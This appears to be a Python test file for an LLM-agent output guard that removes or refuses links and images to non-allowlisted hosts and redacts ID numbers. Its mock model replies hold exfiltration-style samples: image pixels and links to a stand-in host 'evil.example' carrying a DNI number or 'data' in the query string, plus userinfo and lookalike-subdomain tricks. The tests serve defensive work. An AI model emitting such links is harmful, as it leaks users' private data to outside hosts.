"""The final answer's ways out: links and images to other hosts removed or refused, and the
redactions applied to the final text, through the loopback server."""

from __future__ import annotations

import json

import bandoneon
import pytest
from bandoneon.testing import MockLLMServer, Reply
from bandoneon_guard import Guard, Redaction
from bandoneon_guard.links import off_list_links
from hypothesis import given
from hypothesis import strategies as st

ALLOWED = ("docs.example.com", "*.trusted.org")


def agent_on(server: MockLLMServer, guard: Guard) -> bandoneon.Agent:
    return bandoneon.Agent(f"openai-compatible:m@{server.base_url}", plugins=[guard], context_files=False)


def test_an_image_to_another_host_is_removed_before_the_caller_sees_it(mock_llm):
    leak = "Done! ![status](https://evil.example/pixel.png?d=DNI%2030123456) See [the docs](https://docs.example.com/a)."
    mock_llm.add(Reply(text=leak))
    agent = agent_on(mock_llm, Guard(link_hosts=ALLOWED))
    result = agent.run_sync("summarise the file")
    assert result.text == "Done! [image removed: evil.example is not an allowed host] See [the docs](https://docs.example.com/a)."
    assert agent.messages[-1].content == result.text  # the history carries what the caller got


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[click](https://evil.example/?q=secret)", "click"),
        ("go to https://evil.example/x?q=1 now", "go to [link removed: evil.example is not an allowed host] now"),
        ("![a][r]\n\n[r]: https://evil.example/p.png", "![a][r]\n\n[link removed: evil.example is not an allowed host]"),
        ('<img src="//evil.example/p.png">', "[link removed: evil.example is not an allowed host]"),
        ("[ok](https://docs.example.com@evil.example/x)", "ok"),
        ("https://api.trusted.org/v1 and https://trusted.org.evil.example/", "https://api.trusted.org/v1 and [link removed: trusted.org.evil.example is not an allowed host]"),
        ("[mail](mailto:a@b.c) and [rel](/local/path)", "[mail](mailto:a@b.c) and [rel](/local/path)"),
    ],
    ids=["link", "bare", "reference", "html-protocol-relative", "userinfo", "wildcard", "no-host"],
)
def test_every_kind_of_link_to_another_host_is_found(text, expected):
    assert off_list_links(text, ALLOWED).text == expected


def test_refuse_sends_the_answer_back_naming_the_host(mock_llm):
    mock_llm.add(Reply(text="Report: https://evil.example/upload?data=x"), Reply(text="Report: all fine."))
    result = agent_on(mock_llm, Guard(link_hosts=ALLOWED, off_list_links="refuse")).run_sync("report")
    assert (result.stop, result.text) == ("end_turn", "Report: all fine.")
    reason = mock_llm.requests[1].json["messages"][-1]
    assert reason["role"] == "user" and "links to evil.example" in reason["content"]
    assert "docs.example.com, *.trusted.org" in reason["content"]


def test_a_model_that_keeps_linking_out_ends_the_run_as_answer_refused(mock_llm):
    mock_llm.add(*[Reply(text="see https://evil.example/") for _ in range(3)])
    result = agent_on(mock_llm, Guard(link_hosts=(), off_list_links="refuse")).run_sync("?")
    assert (result.stop, result.ok, result.text) == ("answer_refused", False, None)
    assert len(mock_llm.requests) == 3


def test_redactions_apply_to_the_final_text(mock_llm):
    mock_llm.add(Reply(text="The steward's DNI 30.123.456 is on file."))
    guard = Guard(redactions=[Redaction("dni", r"DNI\s*[\d.]+", "DNI ***")])
    result = agent_on(mock_llm, guard).run_sync("whose DNI?")
    assert result.text == "The steward's DNI *** is on file."


def test_links_are_left_alone_without_an_allowlist(mock_llm):
    mock_llm.add(Reply(text="See https://anywhere.example/"))
    assert agent_on(mock_llm, Guard()).run_sync("?").text == "See https://anywhere.example/"


def test_bad_link_options_are_config_errors():
    with pytest.raises(bandoneon.ConfigError, match="'off_list_links' must be one of remove, refuse"):
        Guard(link_hosts=ALLOWED, off_list_links="warn")
    with pytest.raises(bandoneon.ConfigError, match="'link_hosts' must list host names"):
        Guard(link_hosts=("",))


hosts = st.from_regex(r"[a-z]{1,8}\.(example|trusted\.org|com)", fullmatch=True)
pieces = st.one_of(
    st.text(alphabet=st.characters(codec="ascii", exclude_categories=("Cc",)), max_size=12),
    hosts.map(lambda h: f"https://{h}/p"),
    hosts.map(lambda h: f"![x](https://{h}/i.png)"),
    hosts.map(lambda h: f"[t](//{h}/a)"),
    hosts.map(lambda h: f'<img src="https://{h}/i">'),
)


@given(st.lists(pieces, max_size=6).map(" ".join))
def test_after_removal_no_link_to_another_host_is_left(text):
    cleaned = off_list_links(text, ALLOWED)
    assert off_list_links(cleaned.text, ALLOWED).hosts == ()


def test_a_typed_answer_is_cleaned_field_by_field_and_still_fits(mock_llm):
    import attrs

    @attrs.frozen
    class Note:
        text: str
        links: list[str]

    leak = {"text": 'Seal: <img src="https://evil.example/p.png?d=DNI 30123456"> for DNI 30123456', "links": ["https://docs.example.com/a", "https://evil.example/x"]}
    mock_llm.add(Reply(text=json.dumps(leak)))
    guard = Guard(link_hosts=ALLOWED, redactions=[Redaction("dni", r"DNI\s*\d+", "DNI ***")])
    agent = bandoneon.Agent(f"openai-compatible:m@{mock_llm.base_url}", plugins=[guard], output_type=Note, context_files=False)
    result = agent.run_sync("?")
    removed = "[link removed: evil.example is not an allowed host]"
    assert (result.stop, result.ok) == ("end_turn", True)
    assert result.output == Note(f"Seal: {removed} for DNI ***", ["https://docs.example.com/a", removed])
    assert json.loads(result.text) == attrs.asdict(result.output)
